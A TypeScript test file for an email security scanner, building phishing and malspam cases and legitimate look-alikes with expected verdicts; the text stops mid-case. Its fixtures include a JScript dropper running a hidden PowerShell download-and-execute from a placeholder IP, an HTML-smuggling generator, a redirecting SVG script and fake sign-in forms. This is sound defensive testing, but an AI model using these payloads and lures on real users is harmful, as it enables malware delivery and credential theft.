import QRCode from 'qrcode';
import { inject } from 'vitest';
import { deflateSync } from 'node:zlib';
import { makeCompoundFile, makeHyperlinkDocx, makeRemoteTemplateDocx } from '../../../test-fixtures/attachments/office-payloads.mjs';
import { makeEncryptedZip, makeGzip, makeLinkPdf, makePdf, makePe, makeTar, makeZip, pdfFromObjects } from '../../../test-fixtures/attachments/payloads.mjs';
import { makeIso, makeLnk, makeVhdx } from './attachments/chain-fixtures.js';
import { makeOneNote } from './attachments/lure-fixtures.js';
import { blindMail, runBlindSet, type BlindCase } from './blind-set.js';
import { attachmentMail } from './shipped-verdict.js';

/**
 * A third blind set (written before reading the detection code): the delivery techniques of
 * 2025–2026 that the first two sets did not use — device-code and OAuth-consent phishing through
 * the real Microsoft and Google hosts, open redirects on trusted hosts (Google, Bing, Safe Links,
 * DoubleClick, AMP), free builders and serverless hosting (Vercel, Netlify, Glitch, Webflow, IPFS
 * gateways, Google Sites, Firebase storage, Azure blob storage, Microsoft and Google forms), HTML
 * smuggling, SVG and .shtml/.mht attachments, QR codes inside a PDF and drawn as an HTML table,
 * CAPTCHA-gated lures with zero-width and soft-hyphen tricks, homoglyph senders, RTL-override
 * subjects, and the malspam containers of the season (zip of .js/.wsf/.lnk/.msi/.xll, ISO, VHDX,
 * OneNote, .img, password zip with the password in the body, DLL side-loading, CAB, tar.gz) —
 * and the legitimate mail each one resembles, through the real parser, the scanners (no DNS) and
 * the shipped policy.
 *
 * Each case says what a good product does: 'held' (quarantine or reject), 'flagged' (warned or
 * held) or 'clean' (delivered without a warning).
 *
 * First run, before any change (real clamd): of 40 phish 22 held, 13 warned, 5 clean (18 short of
 * what they should get); of 25 look-alikes 0 held, 5 warned. Links through a redirector were not
 * followed to where they lead unless the target sat in a plain query parameter: Bing's click
 * tracker (u=a1 + base64url), Google's AMP viewer (/amp/s/host/…) and an ad server's ;?https://…
 * went unread, and even a followed target (google.com/url?q=, Safe Links) was not counted as free
 * hosting; a shortcut renamed .pdf was only stripped. After (urls/index.ts wrappedUrls reads those
 * three shapes; links/index.ts counts free hosting reached through a wrapper; policy rule
 * disguised-dangerous-attachment holds a program or shortcut under another type's extension):
 * 26 held, 12 warned, 2 clean; look-alikes 0 held, 5 warned. With the locked-archive rule
 * (encrypted-archive-dangerous-inside, a script in a zip whose password the mail gives) and the
 * 'disguised' tag on the file itself (checks.ts): 27 held, 11 warned, 2 clean; look-alikes
 * unchanged. Five more closed later, each by a reader of its own: device-code phishing and OAuth
 * consent links that hand the grant elsewhere (content/account-grant.ts, content.account-grant), a
 * password asked for through a form builder (content/form-password.ts, content.form-password), German
 * and the other European mailbox-deactivation and quota words (content/lure.ts), a bidi override in
 * the Subject or From name (identity/bidi-header.ts, content.bidi-control), and the sign-in page
 * inside a data: frame, decoded and read with the same form checks (attachments/html.ts dataPage):
 * 33 held, 7 warned, 0 clean (real clamd; the device-code and Google Forms cases, wanted
 * 'flagged', are held with their second sign); look-alikes 0 held, 5 warned, unchanged. The rest
 * are marked `gap:` below: six are the shipped policy's strip-and-warn of programs by design, one
 * lacks a second sign ("sign in with your email to open the file" under an RFQ subject, no
 * pressure). The five warned look-alikes are warned by design (free hosting, SVG, QR links from
 * outside).
 */
const { text, html, button } = blindMail('Wed, 11 Feb 2026 08:41:00 +0700', '#0067b8');
const b64url = (s: string) => Buffer.from(s).toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');

/** A script that only says what it would do: what a .js / .wsf / .hta dropper looks like from outside. */
const DROPPER_JS =
  'var sh = new ActiveXObject("WScript.Shell");\r\n' +
  'sh.Run("powershell -nop -w hidden -ep bypass -c \\"iwr http://203.0.113.9/p.ps1 -UseBasicParsing | iex\\"", 0, false);\r\n';
const DROPPER_WSF = `<?xml version="1.0"?><package><job id="a"><script language="JScript">${DROPPER_JS}</script></job></package>`;

/** The QR code's modules for `url` (true = dark), as the qrcode package lays them out. */
function qrModules(url: string): { size: number; dark: (r: number, c: number) => boolean } {
  const m = QRCode.create(url, { errorCorrectionLevel: 'M' }).modules;
  return { size: m.size, dark: (r, c) => Boolean(m.data[r * m.size + c]) };
}

/** A one-page PDF whose only content is a picture of a QR code for `url` (8-bit grey image XObject, deflated). */
function qrPdf(url: string, caption: string): Buffer {
  const { size, dark } = qrModules(url);
  const scale = 4;
  const quiet = 4;
  const side = (size + 2 * quiet) * scale;
  const pixels = Buffer.alloc(side * side, 0xff);
  for (let y = 0; y < side; y++)
    for (let x = 0; x < side; x++) {
      const r = Math.floor(y / scale) - quiet;
      const c = Math.floor(x / scale) - quiet;
      if (r >= 0 && c >= 0 && r < size && c < size && dark(r, c)) pixels[y * side + x] = 0;
    }
  const image = deflateSync(pixels);
  const content = `BT /F1 14 Tf 72 740 Td (${caption}) Tj ET q 240 0 0 240 186 420 cm /Im1 Do Q`;
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    Buffer.concat([
      Buffer.from(`<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length ${image.length} >>\nstream\n`, 'latin1'),
      image,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  ]);
}

/** A QR code for `url` drawn as an HTML table of black and white cells (no image at all). */
function qrTable(url: string): string {
  const { size, dark } = qrModules(url);
  const rows = Array.from(
    { length: size },
    (_, r) => `<tr>${Array.from({ length: size }, (_, c) => `<td style="width:4px;height:4px;padding:0;background:${dark(r, c) ? '#000' : '#fff'}"></td>`).join('')}</tr>`,
  );
  return `<table cellpadding="0" cellspacing="0" style="border-collapse:collapse;border:16px solid #fff">${rows.join('')}</table>`;
}

/** A Microsoft cabinet (MSCF) holding `files` uncompressed in one folder and one data block. */
function makeCab(files: Record<string, Buffer>): Buffer {
  const entries = Object.entries(files);
  const data = Buffer.concat(entries.map(([, b]) => b));
  const fileRecords = Buffer.concat(
    entries.map(([name, b], i) => {
      const rec = Buffer.alloc(16);
      rec.writeUInt32LE(b.length, 0);
      rec.writeUInt32LE(entries.slice(0, i).reduce((n, [, x]) => n + x.length, 0), 4);
      rec.writeUInt16LE(0, 8);
      rec.writeUInt16LE(0x5c4b, 10);
      rec.writeUInt16LE(0x4000, 12);
      rec.writeUInt16LE(0x20, 14);
      return Buffer.concat([rec, Buffer.from(`${name}\0`, 'latin1')]);
    }),
  );
  const headerLen = 36;
  const folder = Buffer.alloc(8);
  const dataStart = headerLen + folder.length + fileRecords.length;
  folder.writeUInt32LE(dataStart, 0);
  folder.writeUInt16LE(1, 4);
  folder.writeUInt16LE(0, 6); // no compression
  const block = Buffer.alloc(8);
  block.writeUInt16LE(data.length, 4);
  block.writeUInt16LE(data.length, 6);
  const header = Buffer.alloc(headerLen);
  header.write('MSCF', 0, 'latin1');
  header.writeUInt32LE(dataStart + block.length + data.length, 8);
  header.writeUInt32LE(headerLen + folder.length, 16);
  header[24] = 3;
  header[25] = 1;
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(entries.length, 28);
  return Buffer.concat([header, folder, fileRecords, block, data]);
}

/** HTML smuggling: the page builds `bytes` from base64 with atob and a Blob and saves it as `name`. */
function smuggler(bytes: Buffer, name: string, title: string): Buffer {
  return Buffer.from(
    `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body><p>Loading document, please wait…</p>` +
      `<script>var d="${bytes.toString('base64')}";var s=atob(d);var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);` +
      `var f=new Blob([u],{type:"application/octet-stream"});if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(f,"${name}")}` +
      `else{var a=document.createElement("a");a.href=URL.createObjectURL(f);a.download="${name}";document.body.appendChild(a);a.click()}</script></body></html>`,
  );
}

const svgScript = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="120">' +
    '<rect width="400" height="120" fill="#f3f2f1"/><text x="20" y="60" font-size="18">Payment_Remittance.pdf — loading…</text>' +
    '<script type="text/javascript"><![CDATA[var e="an.nguyen@lachan.test";var t=atob("aHR0cHM6Ly9yZW1pdC12aWV3LWE5Yy5wYWdlcy5kZXYvP2U9");' +
    'window.location.href=t+e;]]></script></svg>',
);
const svgForm = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="480" height="360"><foreignObject width="480" height="360">' +
    '<div xmlns="http://www.w3.org/1999/xhtml" style="font-family:Segoe UI"><h3>Microsoft 365</h3><p>Your session expired. Sign in to view the fax.</p>' +
    '<form action="https://fax-m365-secure.vercel.app/auth" method="post"><input type="email" name="u" value="an.nguyen@lachan.test"/>' +
    '<input type="password" name="p"/><button type="submit">Sign in</button></form></div></foreignObject></svg>',
);
const loginInner =
  '<html><body><h3>Webmail</h3><form action="https://mail-verify-77.netlify.app/p" method="post"><input name="email"><input type="password" name="pw"><button>Verify</button></form></body></html>';
const shtmlPage = Buffer.from(
  `<!--#include virtual="/x" --><html><body style="margin:0"><iframe style="border:0;width:100%;height:100%" src="data:text/html;base64,${Buffer.from(loginInner).toString('base64')}"></iframe></body></html>`,
);
const mhtPage = Buffer.from(
  [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="----=_mht"; type="text/html"',
    '',
    '------=_mht',
    'Content-Type: text/html; charset="utf-8"',
    'Content-Location: file:///C:/Invoice_2026_02.htm',
    '',
    '<html><body><h3>DHL Express — Invoice 2026/02</h3><p>Confirm your e-mail password to view the invoice.</p>' +
      '<form action="https://dhl-invoice-view.glitch.me/login" method="post"><input name="email"><input name="password" type="password"><input type="submit" value="View"></form></body></html>',
    '------=_mht--',
    '',
  ].join('\r\n'),
);
const isoWithLnk = () => makeIso({ 'SCAN_0211.PDF.LNK': makeLnk({ name: 'Scan 0211' }), 'README.TXT': 'Open the document.' });


const phish: BlindCase[] = [
  {
    name: 'en device-code phishing: Teams meeting asking to enter a code at microsoft.com/devicelogin',
    want: 'flagged',
    raw: () =>
      html(
        { From: 'Daniel Brooks <daniel.brooks@meridian-advisory.example>', Subject: 'Teams meeting: Q1 budget review — join with code' },
        '<p>Hi,</p><p>To join the secure Teams meeting, go to <a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a> ' +
          'and enter the code <b>QXJ7-4LKM</b>. Then sign in with your work account. The code expires in 15 minutes.</p><p>Daniel</p>',
      ),
  },
  {
    name: 'en OAuth consent lure: real login.microsoftonline.com link with an attacker redirect_uri on workers.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'SharePoint Online <no-reply@sharepoint-docs-online.com>', Subject: 'You have been granted access to "2026 Salary Review.xlsx"' },
        '<p>A file has been shared with you. Allow the viewer app to open it.</p>' +
          button(
            'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4f2c8a71-93d0-4e4b-a1f0-8d0c2b7e9a31&response_type=code' +
              '&redirect_uri=https%3A%2F%2Fdoc-viewer-auth.workers.dev%2Fcallback&scope=offline_access%20Mail.Read%20Files.ReadWrite.All&prompt=consent',
            'Open document',
          ),
      ),
  },
  {
    name: 'fr OAuth consent lure through accounts.google.com, redirect_uri on pages.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Google Drive <drive-shares@gdrive-partage.com>', Subject: 'Document partagé avec vous : « Convention 2026 »' },
        '<p>Bonjour,</p><p>Un document a été partagé avec vous. Autorisez l’application pour l’ouvrir.</p>' +
          button(
            'https://accounts.google.com/o/oauth2/v2/auth?client_id=81234-abc.apps.googleusercontent.com&response_type=code' +
              '&redirect_uri=https://drive-view-fr.pages.dev/oauth&scope=https://mail.google.com/&access_type=offline',
            'Ouvrir le document',
          ),
      ),
  },
  {
    name: 'en password expiry through a google.com/url?q= redirect to r2.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'IT Helpdesk <helpdesk@it-mail-support.com>', Subject: 'Your password expires today' },
        '<p>Your mailbox password expires today. Keep your current password to avoid losing access.</p>' +
          button('https://www.google.com/url?q=https://pub-7a1c3e9f.r2.dev/keep-password.html&sa=D&usg=AOvVaw0xY', 'Keep current password'),
      ),
  },
  {
    name: 'en invoice through a Bing click-tracking redirect (u=a1 + base64) to vercel.app',
    want: 'held',
    raw: () =>
      html(
        { From: 'Accounts <accounts@northwind-billing.example>', Subject: 'Overdue invoice INV-20931 — final notice' },
        '<p>Your invoice INV-20931 is overdue. View and pay the invoice today to avoid suspension of service.</p>' +
          button(`https://www.bing.com/ck/a?!&&p=3f1b9c2d7e&ptn=3&ver=2&hsh=4&fclid=1a2b&u=a1${b64url('https://inv-20931-view.vercel.app/login')}&ntb=1`, 'View invoice'),
      ),
  },
  {
    name: 'en Safe Links-wrapped link to a credential page on netlify.app',
    want: 'held',
    raw: () =>
      html(
        { From: 'Payroll <payroll@hr-portal-update.com>', Subject: 'Action required: confirm your payroll details' },
        '<p>Please confirm your payroll details before the next salary run. Sign in with your email password.</p>' +
          button(
            'https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fpayroll-confirm-2026.netlify.app%2Fsignin&data=05%7C02%7C%7C&sdata=abc%3D&reserved=0',
            'Confirm details',
          ),
      ),
  },
  {
    name: 'en DoubleClick ad-click redirect to glitch.me',
    want: 'held',
    raw: () =>
      html(
        { From: 'Microsoft 365 <notice@m365-storage-alerts.com>', Subject: 'Mailbox storage full — messages on hold' },
        '<p>Your mailbox is full. Incoming messages are on hold. Verify your account to release them.</p>' +
          button('https://ad.doubleclick.net/ddm/trackclk/N1234.5678/B2468;dc_trk_aid=1;dc_rdid=;?https://release-mail-m365.glitch.me/verify', 'Release messages'),
      ),
  },
  {
    name: 'de Google AMP link (/amp/s/) to webflow.io webmail page',
    want: 'held',
    raw: () =>
      html(
        { From: 'Webmail Support <support@webmail-konto-info.de>', Subject: 'Ihr Postfach wird heute deaktiviert' },
        '<p>Sehr geehrter Nutzer,</p><p>Ihr Postfach wird heute deaktiviert. Bestätigen Sie Ihr Passwort, um die Deaktivierung zu verhindern.</p>' +
          button('https://www.google.com/amp/s/webmail-konto-bestaetigen.webflow.io/login', 'Jetzt bestätigen'),
      ),
  },
  {
    name: 'en shared document on an IPFS subdomain gateway (dweb.link)',
    want: 'held',
    // gap: free hosting is warned; "sign in with your email to open the file" under an RFQ subject is not read as a lure, so no second sign
    today: 'warned',
    raw: () =>
      html(
        { From: 'Procurement <procurement@gulf-supply-co.example>', Subject: 'RFQ-2026-118: documents for quotation' },
        '<p>Please review the attached request for quotation and submit your prices. Sign in with your email to open the file.</p>' +
          button('https://bafybeihkoviema7g3gxyt6la7vd5ho32ictqbilu3wnlo3rs7ewhnp7lly.ipfs.dweb.link/rfq.html', 'View RFQ documents'),
      ),
  },
  {
    name: 'en "secure message" on Google Sites',
    want: 'held',
    raw: () =>
      html(
        { From: 'Secure Mail <securemail@encrypted-notice.com>', Subject: 'You have received a secure message' },
        '<p>You have received an encrypted message. Sign in with your email account to read it. The message expires in 48 hours.</p>' +
          button('https://sites.google.com/view/secure-message-portal-2026/home', 'Read message'),
      ),
  },
  {
    name: 'en tax document on firebasestorage.googleapis.com',
    want: 'held',
    raw: () =>
      html(
        { From: 'Tax Department <notice@tax-refund-office.com>', Subject: 'Tax refund approved — confirm your account' },
        '<p>Your tax refund of USD 1,284.50 has been approved. Confirm your bank account details to receive the payment.</p>' +
          button('https://firebasestorage.googleapis.com/v0/b/refund-portal-8812.appspot.com/o/index.html?alt=media&token=0c9d1e22', 'Claim refund'),
      ),
  },
  {
    name: 'en OneDrive lure on Azure blob storage ($web)',
    want: 'held',
    raw: () =>
      html(
        { From: 'OneDrive <share@onedrive-files-notify.com>', Subject: 'Nguyen An, a document was shared with you' },
        '<p>A document "Contract_Amendment.pdf" was shared with you. Sign in to view it.</p>' +
          button('https://onedrvshare01.blob.core.windows.net/$web/index.html#an.nguyen@lachan.test', 'Open'),
      ),
  },
  {
    name: 'en Microsoft Forms page asking for the email password',
    want: 'flagged',
    raw: () =>
      html(
        { From: 'IT Service Desk <servicedesk@mail-upgrade-center.com>', Subject: 'Mailbox upgrade: verify your account' },
        '<p>All staff mailboxes are being upgraded. Verify your email address and password in the form below within 24 hours, or your mailbox will be suspended.</p>' +
          button('https://forms.office.com/Pages/ResponsePage.aspx?id=Xyz123AbC_mailbox-verify', 'Verify account'),
      ),
  },
  {
    name: 'vi Google Forms asking for the official-mail password',
    want: 'flagged',
    raw: () =>
      html(
        { From: 'Ban quan tri he thong <quantri.hethong.congvu@gmail.com>', Subject: 'Cập nhật tài khoản thư công vụ' },
        '<p>Kính gửi cán bộ,</p><p>Để nâng cấp hệ thống thư công vụ, đề nghị đồng chí cung cấp địa chỉ thư và mật khẩu qua biểu mẫu dưới đây trước 17h hôm nay. ' +
          'Tài khoản không cập nhật sẽ bị khóa.</p>' +
          button('https://docs.google.com/forms/d/e/1FAIpQLSd9x7-capnhat-thu/viewform', 'Cập nhật tài khoản'),
      ),
  },
  {
    name: 'en HTML smuggling: attachment builds an ISO with atob + Blob',
    want: 'held',
    raw: () =>
      attachmentMail('Statement_Feb2026.html', 'text/html', smuggler(isoWithLnk(), 'Statement_Feb2026.iso', 'Statement'), {
        from: 'Statements <statements@firstline-bank-notices.com>',
        subject: 'Your February statement is ready',
        text: 'Your account statement is attached. Open the file in your browser to download it.',
      }),
  },
  {
    name: 'en SVG attachment with a script that redirects with the address',
    want: 'held',
    raw: () =>
      attachmentMail('Payment_Remittance.svg', 'image/svg+xml', svgScript, {
        from: 'Accounts Payable <ap@atlas-freight.example>',
        subject: 'Payment remittance 11-02-2026',
        text: 'Hello, please see the attached remittance for today’s payment.',
      }),
  },
  {
    name: 'en SVG attachment with a login form in foreignObject',
    want: 'held',
    raw: () =>
      attachmentMail('Fax_3_pages.svg', 'image/svg+xml', svgForm, {
        from: 'eFax <noreply@efax-delivery-service.com>',
        subject: 'New fax received (3 pages)',
        text: 'You have received a new fax. Open the attachment to view.',
      }),
  },
  {
    name: 'en .shtml attachment framing a data: URI login page',
    want: 'held',
    raw: () =>
      attachmentMail('Document_Review.shtml', 'text/html', shtmlPage, {
        from: 'Document Center <docs@sharedocs-center.com>',
        subject: 'Document for your review',
        text: 'Please review the attached document and confirm.',
      }),
  },
  {
    name: 'en .mht attachment with a credential form',
    want: 'held',
    raw: () =>
      attachmentMail('Invoice_2026_02.mht', 'message/rfc822', mhtPage, {
        from: 'DHL Billing <billing@dhl-express-invoices.com>',
        subject: 'DHL invoice 2026/02',
        text: 'Your DHL invoice is attached.',
      }),
  },
  {
    name: 'en QR code inside a PDF: MFA re-registration',
    want: 'held',
    raw: () =>
      attachmentMail('MFA_Reregistration.pdf', 'application/pdf', qrPdf('https://mfa-update-2026.pages.dev/?u=an.nguyen@lachan.test', 'Scan to keep your account active'), {
        from: 'IT Security <security@mfa-compliance-team.com>',
        subject: 'Action required: multi-factor authentication re-registration',
        text: 'Your multi-factor authentication must be re-registered today. Scan the QR code in the attached document with your phone and sign in.',
      }),
  },
  {
    name: 'en QR code drawn as an HTML table of cells',
    want: 'held',
    raw: () =>
      html(
        { From: 'Microsoft Authenticator <noreply@authenticator-m365.com>', Subject: 'Your authenticator expires today' },
        '<p>Your Microsoft Authenticator registration expires today. Scan the code below with your phone camera to re-activate it.</p>' +
          qrTable('https://m365-auth-renew.workers.dev/r?e=an.nguyen@lachan.test') +
          '<p>Accounts not re-activated within 24 hours will be locked.</p>',
      ),
  },
  {
    name: 'en CAPTCHA-gated lure: "verify you are human" (Cloudflare Turnstile), zero-width chars in the brand',
    want: 'held',
    raw: () =>
      html(
        { From: 'Micro\u200bsoft Share\u200bPoint <noreply@sp-share-notify.com>', Subject: 'Mic\u200brosoft: 2 documents waiting for signature' },
        '<p>Mic\u200brosoft Share\u200bPoint: 2 documents are waiting for your signature.</p>' +
          '<p>For your security, complete the Cloudflare Turnstile check — verify you are human — then sign in to view.</p>' +
          button('https://sp-secure-review.pages.dev/captcha?next=login', 'Verify and view'),
      ),
  },
  {
    name: 'en homoglyph sender name (Cyrillic o) and soft hyphens in the brand, link to workers.dev',
    want: 'held',
    raw: () =>
      html(
        { From: 'Micr\u043esoft Acc\u043eunt Team <account@secure-acct-team.com>', Subject: 'Micro\u00adsoft account: password reset required' },
        '<p>Your Micro&shy;soft account password must be reset today because of suspicious activity. Out&shy;look access will be blocked otherwise.</p>' +
          button('https://acct-reset-secure.workers.dev/reset', 'Reset password'),
      ),
  },
  {
    name: 'en RTL-override subject posing as a PDF, link to netlify.app',
    want: 'held',
    raw: () =>
      html(
        { From: 'Finance <finance@invoices-dept-mail.com>', Subject: 'Payment copy Remit_\u202efdp.html' },
        '<p>Please see the payment copy. Sign in with your email to download the remittance.</p>' +
          button('https://remit-copy-download.netlify.app/dl', 'Download remittance'),
      ),
  },
  {
    name: 'en zip holding a .js',
    want: 'held',
    // gap: the shipped policy strips a program or script (dangerous-attachment) and delivers the rest with a banner, by design (see phish-vi ubnd-chi-dao-zip-mat-khau); the payload never reaches the reader
    today: 'warned',
    raw: async () =>
      attachmentMail('Invoice_88123.zip', 'application/zip', await makeZip({ 'Invoice_88123.js': DROPPER_JS }), {
        from: 'Billing <billing@orion-supplies.example>',
        subject: 'Invoice 88123',
        text: 'Please find the invoice attached.',
      }),
  },
  {
    name: 'en zip holding a .wsf',
    want: 'held',
    // gap: the shipped policy strips a program or script (dangerous-attachment) and delivers the rest with a banner, by design (see phish-vi ubnd-chi-dao-zip-mat-khau); the payload never reaches the reader
    today: 'warned',
    raw: async () =>
      attachmentMail('Purchase_Order_5531.zip', 'application/zip', await makeZip({ 'Purchase_Order_5531.wsf': DROPPER_WSF }), {
        from: 'Purchasing <po@tradewind-imports.example>',
        subject: 'New purchase order 5531',
        text: 'Please confirm the attached purchase order.',
      }),
  },
  {
    name: 'es zip holding a shortcut (.lnk)',
    want: 'held',
    raw: async () =>
      attachmentMail('Factura_0211.zip', 'application/zip', await makeZip({ 'Factura_0211.pdf.lnk': makeLnk({ name: 'Factura 0211' }) }), {
        from: 'Facturación <facturas@distribuciones-sol.example>',
        subject: 'Factura pendiente 0211',
        text: 'Adjuntamos la factura pendiente. Saludos.',
      }),
  },
  {
    name: 'en zip holding an .msi installer',
    want: 'held',
    raw: async () =>
      attachmentMail(
        'Zoom_Update.zip',
        'application/zip',
        await makeZip({ 'ZoomInstallerFull.msi': makeCompoundFile({ '/SummaryInformation': Buffer.alloc(512, 1) }, { clsid: '000C1084-0000-0000-C000-000000000046' }) }),
        { from: 'Zoom Support <support@zoom-meeting-update.com>', subject: 'Install the required Zoom update', text: 'Please install the attached update before your next meeting.' },
      ),
  },
  {
    name: 'en zip holding an Excel add-in (.xll)',
    want: 'held',
    // gap: the shipped policy strips a program or script (dangerous-attachment) and delivers the rest with a banner, by design (see phish-vi ubnd-chi-dao-zip-mat-khau); the payload never reaches the reader
    today: 'warned',
    raw: async () =>
      attachmentMail('Price_list_2026.zip', 'application/zip', await makeZip({ 'Price_list_2026.xll': makePe() }), {
        from: 'Sales <sales@eastport-trading.example>',
        subject: 'Updated price list 2026',
        text: 'Please find the updated price list attached. Enable the add-in to view the prices.',
      }),
  },
  {
    name: 'en ISO image holding a shortcut',
    want: 'held',
    raw: () =>
      attachmentMail('Scan_0211.iso', 'application/octet-stream', isoWithLnk(), {
        from: 'Scanner <scanner@copyhub-office.example>',
        subject: 'Scanned document 0211',
        text: 'Scanned document attached.',
      }),
  },
  {
    name: 'en VHDX disk image',
    want: 'held',
    raw: () =>
      attachmentMail('Shipping_Docs.vhdx', 'application/octet-stream', makeVhdx(isoWithLnk()), {
        from: 'Logistics <docs@bluewave-shipping.example>',
        subject: 'Shipping documents B/L 7781',
        text: 'Shipping documents attached. Open the disk to view.',
      }),
  },
  {
    name: 'en OneNote section embedding an .hta',
    want: 'held',
    raw: () =>
      attachmentMail(
        'Remittance_11Feb.one',
        'application/onenote',
        makeOneNote([Buffer.from(`<html><head><HTA:APPLICATION id="a"/><script language="JScript">${DROPPER_JS}</script></head></html>`)], ['Open.hta']),
        { from: 'Remittance <remit@harbourline.example>', subject: 'Remittance 11 Feb', text: 'Double-click "Open" in the attached note to view the remittance.' },
      ),
  },
  {
    name: 'en password zip that opens with the password in the body, holding a .js',
    want: 'held',
    // held since encrypted-archive-dangerous-inside (a locked archive opened with the message's password that holds a script)
    raw: () =>
      attachmentMail('Contract_Q1.zip', 'application/zip', makeEncryptedZip('Contract_Q1.js', Buffer.from(DROPPER_JS), 'Qx2026'), {
        from: 'Legal <legal@brightline-partners.example>',
        subject: 'Contract Q1 for signature',
        text: 'Please review the attached contract. The archive is protected for confidentiality, password: Qx2026',
      }),
  },
  {
    name: 'en PDF whose link downloads a .zip',
    want: 'held',
    raw: () =>
      attachmentMail('Invoice_77410.pdf', 'application/pdf', makeLinkPdf('https://pub-91ac.r2.dev/Invoice_77410.zip'), {
        from: 'Accounts <accounts@meadow-logistics.example>',
        subject: 'Invoice 77410',
        text: 'Invoice attached. Click the document to download the full invoice package.',
      }),
  },
  {
    name: 'en DLL side-loading bundle: a signed-looking .exe and a .dll in a zip',
    want: 'held',
    // gap: the shipped policy strips a program or script (dangerous-attachment) and delivers the rest with a banner, by design (see phish-vi ubnd-chi-dao-zip-mat-khau); the payload never reaches the reader
    today: 'warned',
    raw: async () =>
      attachmentMail('Meeting_Materials.zip', 'application/zip', await makeZip({ 'Meeting_Materials.exe': makePe(), 'version.dll': makePe(), 'data.dat': Buffer.alloc(256, 7) }), {
        from: 'Conference Secretariat <secretariat@asean-digital-forum.example>',
        subject: 'Meeting materials',
        text: 'Please find the meeting materials attached.',
      }),
  },
  {
    name: 'en shortcut (.lnk) renamed .pdf',
    want: 'held',
    raw: () =>
      attachmentMail('Official_Letter.pdf', 'application/pdf', makeLnk({ name: 'Official Letter' }), {
        from: 'Embassy Desk <desk@embassy-notices.example>',
        subject: 'Official letter',
        text: 'Please see the official letter attached.',
      }),
  },
  {
    name: 'en .docx with a remote template',
    want: 'held',
    raw: async () =>
      attachmentMail(
        'Agenda_Forum_2026.docx',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        await makeRemoteTemplateDocx('https://templates-cdn.workers.dev/agenda.dotm'),
        { from: 'Forum Secretariat <info@regional-forum-2026.example>', subject: 'Agenda of the forum', text: 'The agenda is attached.' },
      ),
  },
  {
    name: 'en CAB holding an .exe',
    want: 'held',
    // gap: the shipped policy strips a program or script (dangerous-attachment) and delivers the rest with a banner, by design (see phish-vi ubnd-chi-dao-zip-mat-khau); the payload never reaches the reader
    today: 'warned',
    raw: () =>
      attachmentMail('Quotation.cab', 'application/vnd.ms-cab-compressed', makeCab({ 'Quotation.exe': makePe() }), {
        from: 'Sales <sales@kingsway-industrial.example>',
        subject: 'Quotation request',
        text: 'Our quotation is attached.',
      }),
  },
  {
    name: 'en tar.gz holding an .exe',
    want: 'held',
    raw: () =>
      attachmentMail('Docs_Feb.tar.gz', 'application/gzip', makeGzip(makeTar({ 'Docs_Feb.pdf.exe': makePe() })), {
        from: 'Docs <docs@silverline-consult.example>',
        subject: 'Documents February',
        text: 'Documents attached.',
      }),
  },
  {
    name: 'en .img disk image holding an .exe',
    want: 'held',
    // gap: the shipped policy strips a program or script (dangerous-attachment) and delivers the rest with a banner, by design (see phish-vi ubnd-chi-dao-zip-mat-khau); the payload never reaches the reader
    today: 'warned',
    raw: () =>
      attachmentMail('Payment_Details.img', 'application/octet-stream', makeIso({ 'PAYMENT.EXE': makePe() }), {
        from: 'Payments <payments@crestview-finance.example>',
        subject: 'Payment details',
        text: 'Payment details attached.',
      }),
  },
];

const lookalikes: BlindCase[] = [
  {
    name: 'own IT: how to sign in on the meeting-room TV with microsoft.com/devicelogin',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Phong CNTT <cntt@lachan.test>', Subject: 'Huong dan dang nhap Teams tren man hinh phong hop' },
        'Chào các anh chị,\n\nĐể đăng nhập Teams trên màn hình phòng họp tầng 3: trên màn hình sẽ hiện một mã. Trên điện thoại, mở ' +
          'https://microsoft.com/devicelogin, nhập mã đó và đăng nhập bằng tài khoản công vụ. Chỉ làm khi chính anh chị đang đứng trước màn hình.\n\nPhòng CNTT',
      ),
  },
  {
    name: 'genuine Microsoft account security code',
    want: 'clean',
    raw: () =>
      text(
        { From: 'Microsoft account team <account-security-noreply@accountprotection.microsoft.com>', Subject: 'Microsoft account security code' },
        'Please use the following security code for the Microsoft account an***@lachan.test.\n\nSecurity code: 482913\n\n' +
          'If you don’t recognize the Microsoft account an***@lachan.test, you can click https://account.live.com/dp?ft=abc to remove your email address from that account.\n\nThanks,\nThe Microsoft account team',
      ),
  },
  {
    name: 'own IT: app registration sign-in link to Microsoft with the own portal as redirect',
    want: 'clean',
    raw: () =>
      html(
        { From: 'Phong CNTT <cntt@lachan.test>', Subject: 'Dang nhap cong thong tin noi bo bang tai khoan Microsoft 365' },
        '<p>Từ hôm nay cổng thông tin nội bộ dùng đăng nhập Microsoft 365. Đường dẫn đăng nhập:</p>' +
          '<p><a href="https://login.microsoftonline.com/lachan.test/oauth2/v2.0/authorize?client_id=0b1c2d3e-aaaa-bbbb-cccc-112233445566&response_type=code&redirect_uri=https%3A%2F%2Fportal.lachan.test%2Fauth&scope=openid%20profile">Đăng nhập cổng nội bộ</a></p>',
      ),
  },
  {
    name: 'real agency survey on Google Forms',
    want: 'clean',
    raw: () =>
